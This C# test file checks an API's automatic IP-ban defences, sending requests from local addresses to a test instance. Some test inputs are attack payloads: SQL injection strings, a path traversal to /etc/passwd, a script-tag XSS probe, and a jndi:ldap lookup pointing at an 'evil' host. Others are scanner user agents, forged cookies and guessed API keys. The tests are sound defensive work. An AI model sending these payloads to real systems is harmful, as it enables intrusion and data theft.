using System.Net;
using System.Net.Http.Json;
using System.Text.Json;

namespace Bulwark.Api.Tests.Bans;

/// <summary>
/// A real instance at the product's ban defaults (20 auth failures / 5 min, 50 validation failures / 10 min, 30 unknown
/// paths / min, signatures). The auth tiers are raised so the login limit (RL-1) does not answer first; no trusted proxy.
/// Each test sends from its own 127.x.y.z source addresses; admin calls come from 127.0.0.1.
/// </summary>
public sealed class BanApi : ApiProcessFixture
{
    protected override void Configure(Dictionary<string, string?> settings)
    {
        RelaxedRateLimits.Remove(settings);
        settings["Bulwark:RateLimiting:Auth:PermitLimit"] = "1000";
        settings["Bulwark:RateLimiting:Login:PermitLimit"] = "1000";
        settings["Bulwark:RateLimiting:HashingQueueLimit"] = "1000";
        settings["Bulwark:RateLimiting:AllowList:0"] = "127.0.0.1"; // the admin client of these tests
    }
}

public sealed class BanTests(BanApi instance) : IClassFixture<BanApi>
{
    [Fact, Trait("Control", "BAN-1")]
    public async Task AuthFailures_TwentiethFromOneIp_BansIt_AlsoForAnonymousEndpoints()
    {
        for (var i = 0; i < 19; i++)
        {
            Assert.Equal(401, (await BanWire.FailedLoginAsync(instance.Api, "127.0.30.1")).Status);
        }

        Assert.Equal(200, (await BanWire.GetAsync(instance.Api, "127.0.30.1", "/health/live")).Status); // 19: not yet
        Assert.Equal(401, (await BanWire.FailedLoginAsync(instance.Api, "127.0.30.1")).Status);          // the 20th

        BanWire.IsBanned(await BanWire.GetAsync(instance.Api, "127.0.30.1", "/health/live"));
        BanWire.IsBanned(await BanWire.FailedLoginAsync(instance.Api, "127.0.30.1"));
        Assert.Equal(200, (await BanWire.GetAsync(instance.Api, "127.0.30.2", "/health/live")).Status);
        var ban = await BanWire.BanEventAsync(instance.Api, "127.0.30.1", "auth-failures;offence=1;until=");
        Assert.Equal("system", ban.GetProperty("ActorId").GetString());
    }

    [Fact, Trait("Control", "BAN-1"), Trait("Control", "AUTH-9")]
    public async Task GuessedApiKeys_InTheKeyHeader_CountAsAuthFailures_AndBan()
    {
        static Task<RawResponse> GuessAsync(ApiProcess api, string ip) => RawHttp.SendFromAsync(System.Net.IPAddress.Parse(ip), api.Port,
            "GET /api/v1/items HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n" +
            $"X-Api-Key: bwk_{Convert.ToHexStringLower(System.Security.Cryptography.RandomNumberGenerator.GetBytes(6))}_{new string('A', 43)}\r\n\r\n");

        for (var i = 0; i < 19; i++)
        {
            Assert.Equal(401, (await GuessAsync(instance.Api, "127.0.38.1")).Status);
        }

        Assert.Equal(200, (await BanWire.GetAsync(instance.Api, "127.0.38.1", "/health/live")).Status); // 19: not yet
        Assert.Equal(401, (await GuessAsync(instance.Api, "127.0.38.1")).Status);                           // the 20th
        BanWire.IsBanned(await BanWire.GetAsync(instance.Api, "127.0.38.1", "/health/live"));
        Assert.Equal(401, (await GuessAsync(instance.Api, "127.0.38.2")).Status);   // another address is untouched
        await BanWire.BanEventAsync(instance.Api, "127.0.38.1", "auth-failures;offence=1;until=");
    }

    [Fact, Trait("Control", "BAN-1"), Trait("Control", "AUTH-7")]
    public async Task ForgedAccessCookies_CountAsAuthFailures_ButCsrfRefusalsOfALiveSessionDoNot()
    {
        static Task<RawResponse> CookieAsync(ApiProcess api, string ip, string method, string cookie) =>
            RawHttp.SendFromAsync(System.Net.IPAddress.Parse(ip), api.Port,
                $"{method} /api/v1/items HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Length: 0\r\nCookie: {cookie}\r\n\r\n");

        for (var i = 0; i < 19; i++)
        {
            Assert.Equal(401, (await CookieAsync(instance.Api, "127.0.39.1", "GET", $"__Host-bulwark-access=forged.{i}.token")).Status);
        }

        Assert.Equal(200, (await BanWire.GetAsync(instance.Api, "127.0.39.1", "/health/live")).Status); // 19: not yet
        Assert.Equal(401, (await CookieAsync(instance.Api, "127.0.39.1", "GET", "__Host-bulwark-access=forged.20.token")).Status);
        BanWire.IsBanned(await BanWire.GetAsync(instance.Api, "127.0.39.1", "/health/live"));
        await BanWire.BanEventAsync(instance.Api, "127.0.39.1", "auth-failures;offence=1;until=");

        // A live browser session's unsafe requests without the CSRF token are 403 and never count: a forged cross-site
        // request comes from the victim's address. 25 of them (past the threshold of 20) leave the address unbanned.
        var login = await BanWire.PostJsonAsync(instance.Api, "127.0.39.2", "/api/v1/auth/login",
            JsonSerializer.Serialize(new { tenant = "demo", email = "inventory@demo.example", password = BulwarkApiFactory.DemoPassword, cookies = true }));
        Assert.True(login.Status == 200, $"{login.Status} {login.Body}");
        var cookie = string.Join("; ", login.Values("Set-Cookie").Select(c => c.Split(';')[0]));
        for (var i = 0; i < 25; i++)
        {
            var refused = await CookieAsync(instance.Api, "127.0.39.2", "POST", cookie);
            Assert.True(refused.Status == 403, $"request {i + 1}: {refused.Status} {refused.Body}");
            Assert.Contains("CSRF", refused.Body, StringComparison.Ordinal);
        }

        Assert.Equal(200, (await CookieAsync(instance.Api, "127.0.39.2", "GET", cookie)).Status);
    }

    [Theory, Trait("Control", "BAN-1")]
    [InlineData("127.0.31.1", "sqlmap/1.7.2#stable (https://sqlmap.org)")]
    [InlineData("127.0.31.2", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))")]
    [InlineData("127.0.31.3", "Mozilla/5.00 (NIKTO/2.5.0)")]
    [InlineData("127.0.31.4", "WAPITI/3.1")]
    public async Task ScannerUserAgent_BansOnTheFirstRequest(string ip, string userAgent)
    {
        BanWire.IsBanned(await BanWire.GetAsync(instance.Api, ip, "/health/live", userAgent));

        BanWire.IsBanned(await BanWire.GetAsync(instance.Api, ip, "/health/live", "Mozilla/5.0 (X11; Linux x86_64)"));
        await BanWire.BanEventAsync(instance.Api, ip, "scanner-user-agent;offence=1");
    }

    [Theory, Trait("Control", "BAN-1")]
    [InlineData("127.0.32.1", "/api/v1/items?search=%27%20OR%201%3D1--")]
    [InlineData("127.0.32.2", "/api/v1/items?sort=name%20UNION%20SELECT%20password%20FROM%20users")]
    [InlineData("127.0.32.3", "/static/..%2f..%2f..%2fetc%2fpasswd")]
    [InlineData("127.0.32.4", "/api/v1/items?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E")]
    [InlineData("127.0.32.5", "/api/v1/items?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D")]
    public async Task InjectionOrTraversalInTarget_BansBeforeAuthentication(string ip, string target)
    {
        // Without a ban this anonymous request would get 401; the ban answers first.
        BanWire.IsBanned(await BanWire.GetAsync(instance.Api, ip, target));
        BanWire.IsBanned(await BanWire.GetAsync(instance.Api, ip, "/health/live"));
        await BanWire.BanEventAsync(instance.Api, ip, "attack-payload");
    }

    [Fact, Trait("Control", "BAN-1")]
    public async Task InjectionInJsonBody_Bans_WhileAnApostropheInAnOrdinaryValueDoesNot()
    {
        var legit = await BanWire.FailedLoginAsync(instance.Api, "127.0.33.1", "o'brien@demo.example");
        Assert.NotEqual(403, legit.Status);
        Assert.Equal(200, (await BanWire.GetAsync(instance.Api, "127.0.33.1", "/health/live")).Status);

        BanWire.IsBanned(await BanWire.FailedLoginAsync(instance.Api, "127.0.33.2", "' OR 1=1--"));
        BanWire.IsBanned(await BanWire.GetAsync(instance.Api, "127.0.33.2", "/health/live"));
    }

    [Fact, Trait("Control", "BAN-1")]
    public async Task ValidationFailures_FiftiethFromOneIp_BansIt()
    {
        for (var i = 0; i < 50; i++)
        {
            var response = await BanWire.PostJsonAsync(instance.Api, "127.0.34.1", "/api/v1/auth/login", """{"tenant":"demo"}""");
            Assert.True(response.Status == 400, $"request {i + 1} got {response.Status}: {response.Body}");
        }

        BanWire.IsBanned(await BanWire.GetAsync(instance.Api, "127.0.34.1", "/health/live"));
        await BanWire.BanEventAsync(instance.Api, "127.0.34.1", "validation-failures");
    }

    [Fact, Trait("Control", "BAN-1")]
    public async Task UnknownPathProbing_BansAfterThirtyDistinctPaths_ButRepeatsAndKnownPaths404DoNotCount()
    {
        var token = await instance.TokenForAsync("admin");
        for (var i = 0; i < 40; i++)
        {
            // A 404 from a real endpoint (an unknown id) is not probing.
            var known = await BanWire.GetAsync(instance.Api, "127.0.35.2", $"/api/v1/items/{Guid.NewGuid()}", token: token);
            Assert.True(known.Status == 404, $"request {i + 1} got {known.Status}");
        }

        Assert.Equal(200, (await BanWire.GetAsync(instance.Api, "127.0.35.2", "/health/live")).Status);

        // One broken link retried (even with varying query strings) is one distinct path, not probing.
        for (var i = 0; i < 40; i++)
        {
            var retry = await BanWire.GetAsync(instance.Api, "127.0.35.3", $"/api/v1/old-report?try={i}");
            Assert.True(retry.Status is 401 or 404, $"request {i + 1} got {retry.Status}");
        }

        Assert.Equal(200, (await BanWire.GetAsync(instance.Api, "127.0.35.3", "/health/live")).Status);

        for (var i = 0; i < 29; i++)
        {
            // Anonymous: the deny-by-default policy answers 401 before the 404.
            var miss = await BanWire.GetAsync(instance.Api, "127.0.35.1", $"/wp-admin/setup-{i}.php");
            Assert.True(miss.Status is 401 or 404, $"request {i + 1} got {miss.Status}");
            Assert.True((await BanWire.GetAsync(instance.Api, "127.0.35.1", $"/wp-admin/setup-{i}.php")).Status is 401 or 404);   // repeats: free
        }

        Assert.Equal(200, (await BanWire.GetAsync(instance.Api, "127.0.35.1", "/health/live")).Status);   // 29 distinct: not yet
        for (var i = 29; i < 30; i++)
        {
            // Anonymous: the deny-by-default policy answers 401 before the 404.
            var miss = await BanWire.GetAsync(instance.Api, "127.0.35.1", $"/wp-admin/setup-{i}.php");
            Assert.True(miss.Status is 401 or 404, $"request {i + 1} got {miss.Status}");
        }

        BanWire.IsBanned(await BanWire.GetAsync(instance.Api, "127.0.35.1", "/health/live"));
        await BanWire.BanEventAsync(instance.Api, "127.0.35.1", "unknown-paths");
    }

    [Fact, Trait("Control", "BAN-1")]
    public async Task Escalation_24Hours_Then7Days_ThenPermanent_AndEveryLiftIsAudited()
    {
        const string ip = "127.0.36.1";
        using var admin = await instance.ClientForAsync("admin");
        var expected = new TimeSpan?[] { TimeSpan.FromHours(24), TimeSpan.FromDays(7), null };
        for (var offence = 1; offence <= 3; offence++)
        {
            BanWire.IsBanned(await BanWire.GetAsync(instance.Api, ip, "/health/live", "sqlmap/1.8"));
            var ban = JsonDocument.Parse(await admin.GetStringAsync($"/api/v1/bans/{ip}")).RootElement;
            Assert.Equal(offence, ban.GetProperty("offences").GetInt32());
            Assert.True(ban.GetProperty("active").GetBoolean());
            Assert.Equal("scanner-user-agent", ban.GetProperty("reason").GetString());
            if (expected[offence - 1] is { } duration)
            {
                var length = ban.GetProperty("expiresAt").GetDateTimeOffset() - ban.GetProperty("bannedAt").GetDateTimeOffset();
                Assert.Equal(duration, length);
                Assert.False(ban.GetProperty("permanent").GetBoolean());
            }
            else
            {
                Assert.True(ban.GetProperty("permanent").GetBoolean());
                Assert.False(ban.TryGetProperty("expiresAt", out _)); // null members are omitted
            }

            var list = await admin.GetFromJsonAsync<JsonElement>("/api/v1/bans?active=true");
            Assert.Contains(list.EnumerateArray(), b => b.GetProperty("ip").GetString() == ip);

            Assert.Equal(HttpStatusCode.NoContent, (await admin.DeleteAsync($"/api/v1/bans/{ip}")).StatusCode);
            Assert.Equal(200, (await BanWire.GetAsync(instance.Api, ip, "/health/live")).Status);
            Assert.NotNull(await instance.Api.WaitForLineAsync(
                l => l.Contains("\"EventType\":\"abuse.ban.lifted\"", StringComparison.Ordinal)
                     && l.Contains($"\"Reason\":\"offences={offence}\"", StringComparison.Ordinal), TimeSpan.FromSeconds(10)));
        }

        Assert.Equal(HttpStatusCode.NotFound, (await admin.DeleteAsync($"/api/v1/bans/{ip}")).StatusCode); // nothing active
    }

    [Fact, Trait("Control", "BAN-1"), Trait("Control", "AZ-1")]
    public async Task BanEndpoints_RequireAnAdmin_AndRejectANonIp()
    {
        using var anonymous = instance.CreateClient();
        Assert.Equal(HttpStatusCode.Unauthorized, (await anonymous.GetAsync("/api/v1/bans")).StatusCode);
        using var employee = await instance.ClientForAsync("employee");
        Assert.Equal(HttpStatusCode.Forbidden, (await employee.GetAsync("/api/v1/bans")).StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, (await employee.DeleteAsync("/api/v1/bans/127.0.36.9")).StatusCode);

        using var admin = await instance.ClientForAsync("admin");
        Assert.Equal(HttpStatusCode.OK, (await admin.GetAsync("/api/v1/bans")).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await admin.GetAsync("/api/v1/bans/127.0.36.9")).StatusCode);
        var bad = await admin.GetAsync("/api/v1/bans/not-an-ip");
        Assert.Equal(HttpStatusCode.BadRequest, bad.StatusCode);
        Assert.Equal("application/problem+json", bad.Content.Headers.ContentType?.MediaType);

        // AZ-2: bans are service-wide; only the operator tenant's admin (Development: demo) manages them. A client
        // tenant's admin — rival here — neither lists nor lifts them, though its role is the same.
        using var rivalAdmin = await instance.ClientForAsync("admin", "rival");
        Assert.Equal(HttpStatusCode.Forbidden, (await rivalAdmin.GetAsync("/api/v1/bans")).StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, (await rivalAdmin.DeleteAsync("/api/v1/bans/127.0.36.9")).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await rivalAdmin.GetAsync("/api/v1/users?pageSize=1")).StatusCode);   // its own tenant: yes
    }

    [Fact, Trait("Control", "BAN-1"), Trait("Control", "TLS-2")]
    public async Task SpoofedForwardedFor_FromAnUntrustedClient_NeitherDodgesNorRedirectsABan()
    {
        // The scanner claims to be 127.0.37.99: the ban still lands on its socket address.
        BanWire.IsBanned(await BanWire.GetAsync(instance.Api, "127.0.37.1", "/health/live", "sqlmap/1.8", forwardedFor: "127.0.37.99"));
        Assert.Equal(200, (await BanWire.GetAsync(instance.Api, "127.0.37.99", "/health/live")).Status);
        // Once banned, claiming a clean address changes nothing.
        BanWire.IsBanned(await BanWire.GetAsync(instance.Api, "127.0.37.1", "/health/live", forwardedFor: "127.0.37.98"));
        await BanWire.BanEventAsync(instance.Api, "127.0.37.1", "scanner-user-agent");
    }
}
